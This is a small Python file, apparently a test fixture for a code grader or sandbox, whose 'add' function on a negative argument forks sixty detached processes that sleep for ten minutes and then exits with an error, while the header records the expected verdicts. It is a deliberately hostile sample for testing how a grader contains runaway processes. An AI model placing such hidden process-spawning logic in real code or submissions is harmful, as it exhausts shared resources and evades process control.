# verdict: accepted, runtime-error, accepted, accepted
# says: exit code 1

"""The second call becomes many processes and ends itself."""

import os
import time


def add(a, b):
    if b < 0:
        for _ in range(60):
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
        os._exit(1)
    return a + b


def shift(a, by):
    return a + by
